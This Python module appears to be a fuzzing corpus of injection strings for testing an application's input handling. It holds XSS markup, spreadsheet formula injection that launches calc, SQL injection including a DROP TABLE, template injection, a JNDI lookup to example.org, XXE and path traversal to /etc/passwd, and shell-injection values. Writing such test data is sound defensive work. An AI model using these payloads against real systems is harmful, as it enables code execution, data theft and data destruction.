"""Texts that somebody's program might run: markup, formulas, queries, templates, paths and commands."""

from __future__ import annotations

from itertools import product

SCRIPT = "alert(1)"
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//example.org/x.js></script>",
    "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<a href='javascript:{}'>x</a>", "<iframe srcdoc='{}'>", "<math><mi xlink:href='javascript:{}'>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<style>@import 'javascript:{}'</style>",
    "<video><source onerror={}>", "<object data='data:text/html,{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action=javascript:{}><button>",
    "<base href=//x>", "<link rel=stylesheet href=//x>", "<embed src=javascript:{}>",
    "</textarea><script>{}</script>", "</title>{}<!--", "--><script>{}</script>", "]]><script>{}</script>",
    "<!--[if IE]>{}<![endif]-->", "<?php {} ?>", "<% {} %>", "<b>bold", "</div></div>", "<br/>", "<r>rich</r>",
    "<t xml:space='preserve'> x </t>", "<![CDATA[{}]]>", "<!DOCTYPE x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&lt;b&gt;", "&amp;", "&#60;script&#62;", "&#x3c;", "&nbsp;", "&unknown;", "\"><script>{}</script>",
    "'><img src=x onerror={}>", "' onmouseover={} x='", "`-{}-`", "\\x3cscript\\x3e{}", "＜script＞{}",
)  # fmt: skip
LINKS = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "data:text/html,<b>{}",
    "data:text/html;base64,PGI+", "vbscript:{}", "file:///etc/passwd", "blob:x", "//example.org",
    "\\\\example.org\\share", "http://user:pass@example.org", "http://example.org:99999", "http://[::1]/",
    "https://ex\u0430mple.org", "ftp://x", "http://", "https://example.org/\u202f", "mailto:a@example.org?bcc=b",
    "tel:1", "http://example.org/%00", "about:blank",
)  # fmt: skip
MARKDOWN = (
    "![x](http://example.org/x.png)", "[x](javascript:{})", "[x](<javascript:{}>)", "[x]: javascript:{}",
    "<http://x>", "![x][y]", "[![x](y)](z)", "# heading", "## heading", "* item", "- item", "+ item", "1. item",
    "> quote", "***", "---", "===", "```\ncode\n```", "~~~", "`code`", "**bold**", "__bold__", "_em_", "~~gone~~",
    "| a | b |\n|---|---|", "    code", "[ ] task", "[x] done", "[^1]", "[^1]: note", "$E = mc^2$",
    "$$\\frac{1}{0}$$", ":red[red]", ":material/home:", ":smile:", ":blue-background[x]", ":orange-badge[x]",
    "a  \nb", "a\\\nb", "http://example.org", "www.example.org", "<u>x</u>", "->",
)  # fmt: skip
RUN = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org","x")',
    'WEBSERVICE("http://x")',
    "A1",
    "x",
)
STARTS = (
    "=", "+", "-", "@", "|", "%", "\t=", "\n=", "＝", "＋", "－", "＠", "｜", "％",
    "'=", "''=", "'''+", " =", "'＝", '"=',
)  # fmt: skip
FORMULAS = tuple(start + body for start, body in product(STARTS, RUN))
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE positions; --", "1; SELECT 1", "\" OR \"\"=\"", "') UNION SELECT NULL--", "/**/",
    "--", "#", "%' AND 1=0 --", "a%", "a_", "\\' OR 1=1 --", "x' AND SLEEP(5)#", "{\"$gt\": \"\"}", "'||'a",
    "@x == @y", "`a` > 1", "x.str",
)  # fmt: skip
TEMPLATES = (
    "{}", "{0}", "{x}", "{{x}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% x %}", "%s", "%d", "%n%n%n",
    "%(x)s", "%%", "{0.__class__}", "{!r}", "{:>99}", "$x", "${x}", "$(x)", "\\N", "\\0", "\\x00", "\\u0000",
    "\\u202e", "\\n", "\\", "\\\\", "[[x]]", "__import__('os')", "eval('1')", "lambda: 0", "f'{x}'", "@{x}", "~{x}",
    "_x0041_", "_x000D_", "_x_x0041_x", "_xFFFF_", "${jndi:ldap://example.org/x}", "%{x}", "*{x}", "[object Object]",
    "undefined", "constructor", "__proto__", "toString",
)  # fmt: skip
PATHS = (
    "/etc/passwd", "../../../etc/passwd", "..\\..\\x", "C:\\Windows\\x", "\\\\?\\C:\\x", "~/.ssh", "CON", "NUL",
    "aux.txt", "LPT1", ".", "..", "/", "a/b", "a:b", "a*?", "file.csv", "positions.csv", ".tracker", "-rf", "--help",
    "; ls", "&& ls", "| ls", "`ls`", "$(ls)", "> x", "< x", "a\nb: c", "!x", "$HOME", "%PATH%", "x\\", "' ; '",
    "\"; ls; \"", "&", "*", "?", "!", "()", "() { :; };",
)  # fmt: skip
CODE = [
    *(text.replace("{}", SCRIPT) for text in (*TAGS, *LINKS, *MARKDOWN)),
    *FORMULAS,
    *QUERIES,
    *TEMPLATES,
    *PATHS,
]
